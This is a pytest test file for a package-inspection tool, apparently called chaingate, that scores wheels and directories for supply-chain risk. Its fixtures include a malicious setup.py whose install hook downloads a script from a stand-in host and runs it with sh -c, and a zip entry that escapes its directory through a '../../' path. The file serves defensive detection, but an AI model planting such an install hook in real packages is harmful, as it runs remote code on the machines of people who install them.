"""`chaingate inspect`: archives and directories in, one verdict out; nothing executed.
Every sample is inert (URLs under example.invalid, never run)."""

from __future__ import annotations

import io
import json
import subprocess
import sys
import zipfile
from pathlib import Path

from chaingate.artifacts.inspect import inspect_path, verdict
from chaingate.artifacts.interface import CodeFinding
from chaingate.signals.interface import Severity

MALICIOUS_SETUP = """
from setuptools import setup
from setuptools.command.install import install
import urllib.request, subprocess

class PostInstall(install):
    def run(self):
        payload = urllib.request.urlopen("https://payload.example.invalid/x.sh").read()
        subprocess.run(["sh", "-c", payload])
        install.run(self)

setup(name="demo", version="1.0", cmdclass={"install": PostInstall})
"""

HEALTHY_INIT = '''"""A healthy library: network use lives in functions."""
import logging
import requests

log = logging.getLogger(__name__)


def fetch(url):
    return requests.get(url, timeout=10).json()
'''


def wheel(tmp_path: Path, name: str, files: dict[str, bytes]) -> Path:
    path = tmp_path / name
    with zipfile.ZipFile(path, "w") as zf:
        for member, data in files.items():
            zf.writestr(member, data)
    return path


def test_a_single_medium_finding_stays_low() -> None:
    one = CodeFinding("shady-url", Severity.MEDIUM, "pkg/a.py", 3, "m")
    assert verdict((one,)) == Severity.LOW
    two = (one, CodeFinding("import-time-exec", Severity.MEDIUM, "pkg/b.py", 1, "m"))
    assert verdict(two) == Severity.MEDIUM
    assert verdict(()) is None


def test_malicious_setup_in_a_directory_is_high_or_worse(tmp_path: Path) -> None:
    (tmp_path / "demo").mkdir()
    (tmp_path / "demo" / "setup.py").write_text(MALICIOUS_SETUP)
    result = inspect_path(tmp_path / "demo")
    assert result.verdict is not None and result.verdict >= Severity.HIGH
    hook = next(f for f in result.findings if f.id in ("install-hook", "download-exec"))
    assert hook.path == "setup.py" and hook.line is not None


def test_native_binary_in_a_pure_python_wheel(tmp_path: Path) -> None:
    whl = wheel(
        tmp_path,
        "demo-1.0-py3-none-any.whl",
        {"demo/__init__.py": b"", "demo/helper": b"\x7fELF\x02\x01\x01" + b"\0" * 64},
    )
    result = inspect_path(whl)
    (binary,) = [f for f in result.findings if f.id == "bundled-binary"]
    assert binary.severity == Severity.HIGH and binary.path == "demo/helper"


def test_extension_modules_in_a_platform_wheel_are_fine(tmp_path: Path) -> None:
    whl = wheel(
        tmp_path,
        "demo-1.0-cp311-cp311-manylinux_2_17_x86_64.whl",
        {"demo/_speedups.cpython-311-x86_64-linux-gnu.so": b"\x7fELF" + b"\0" * 64,
         "demo.libs/libfoo-1a2b.so.1.2": b"\x7fELF" + b"\0" * 64},
    )  # fmt: skip
    assert inspect_path(whl).findings == ()


def test_healthy_code_is_quiet(tmp_path: Path) -> None:
    whl = wheel(tmp_path, "lib-1.0-py3-none-any.whl", {"lib/__init__.py": HEALTHY_INIT.encode()})
    result = inspect_path(whl)
    assert result.verdict is None or result.verdict <= Severity.LOW


def test_a_hostile_archive_is_a_finding_not_a_crash(tmp_path: Path) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("../../escaped.py", b"print('x')")
    (tmp_path / "evil-1.0-py3-none-any.whl").write_bytes(buf.getvalue())
    result = inspect_path(tmp_path / "evil-1.0-py3-none-any.whl")
    (hostile,) = [f for f in result.findings if f.id == "hostile-archive"]
    assert hostile.severity == Severity.CRITICAL
    assert not (tmp_path.parent / "escaped.py").exists()


def test_the_command_gives_the_json_schema_and_exit_code(tmp_path: Path) -> None:
    (tmp_path / "demo").mkdir()
    (tmp_path / "demo" / "setup.py").write_text(MALICIOUS_SETUP)
    proc = subprocess.run(
        [sys.executable, "-m", "chaingate", "inspect", str(tmp_path / "demo"), "-f", "json"],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert proc.returncode == 1, proc.stderr
    doc = json.loads(proc.stdout)
    assert doc["schema"] == "chaingate/inspect/v1"
    assert doc["verdict"] in ("high", "critical")
    assert {"id", "severity", "path", "line", "message", "excerpt"} <= set(doc["findings"][0])
